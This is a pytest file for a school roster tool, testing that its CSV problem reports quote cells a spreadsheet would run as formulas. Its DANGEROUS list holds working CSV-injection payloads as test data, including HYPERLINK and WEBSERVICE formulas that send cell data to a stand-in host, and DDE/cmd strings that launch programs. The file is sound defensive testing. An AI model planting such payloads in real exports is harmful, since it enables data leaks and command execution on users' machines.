"""A district opens the problem report in Excel or LibreOffice: no cell of it runs as a formula,
whatever the SIS export put in the value that was reported."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from daemon.notify.problem_list import problem_section
from daemon.roster.problems import REPORT_COLUMNS, Problem, ProblemLog, Severity, formula_safe

# OWASP's CSV-injection triggers, the payloads that use them in Excel (DDE, HYPERLINK) and
# LibreOffice (its own functions, `@` and the `-`/`+` arithmetic forms), and the full-width
# forms Excel reads as the same characters.
DANGEROUS = [
    '=HYPERLINK("http://evil.test/?leak="&B2,"Click to fix")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.test/"&A1)',
    '=DDE("soffice";"file:///C:/x.odt";"x")',
    "\t=2+2",
    "\r=2+2",
    "\n=2+2",
    "\tplain text after a tab",
    " =1+1",
    "\u3000=1+1",  # an ideographic space, which spreadsheets trim too
    "\uff1d1+1",  # ＝
    "\uff0b1",  # ＋
    "\uff0d1",  # －
    "\uff20SUM(A1)",  # ＠
]
HARMLESS = ["", "S0000123", "O'Brien", "Smith, Jr.", "1+1", "'=already quoted", "a=b", "K-5"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(value: str) -> None:
    assert formula_safe(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_cells_are_left_as_they_are(value: str) -> None:
    assert formula_safe(value) == value


def test_quoting_twice_changes_nothing() -> None:
    assert all(formula_safe(formula_safe(v)) == formula_safe(v) for v in DANGEROUS)


def read_rows(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.lstrip("\ufeff"), newline="")))


def test_the_report_quotes_file_column_value_and_message(tmp_path: Path) -> None:
    path = tmp_path / "problems.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        log = ProblemLog(out)
        log.add(Problem(Severity.ERROR, "bad_email", "=1+1 is not an email", "students.csv", 7,
                        "@mail", "=cmd|' /C calc'!A0"))  # fmt: skip
        log.add(Problem(Severity.WARNING, "extra_column", "column kept", "-x.csv", None, "+col",
                        "\t=2+2"))  # fmt: skip

    [header, first, second] = read_rows(path.read_text(encoding="utf-8"))

    assert header == list(REPORT_COLUMNS)
    assert first == [
        "error", "bad_email", "students.csv", "7", "'@mail", "'=cmd|' /C calc'!A0",
        "'=1+1 is not an email",
    ]  # fmt: skip
    assert second == ["warning", "extra_column", "'-x.csv", "", "'+col", "'\t=2+2", "column kept"]


def test_an_older_report_is_made_safe_when_it_is_attached(tmp_path: Path) -> None:
    """A report archived before this rule holds raw formulas; the email attaches it safe."""
    path = tmp_path / "old.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(REPORT_COLUMNS)
        for n, value in enumerate(DANGEROUS, start=2):
            writer.writerow(["error", "bad_grade", "students.csv", n, "grade", value, "bad"])
    problems = [Problem(Severity.ERROR, "bad_grade", "bad", "students.csv", 2, "grade", "x")]

    section = problem_section(problems, {"error": len(DANGEROUS)}, path, "report.csv")

    assert section.attachment is not None
    assert section.attachment.complete
    rows = read_rows(section.attachment.data.decode("utf-8"))
    assert [row[5] for row in rows[1:]] == ["'" + value for value in DANGEROUS]
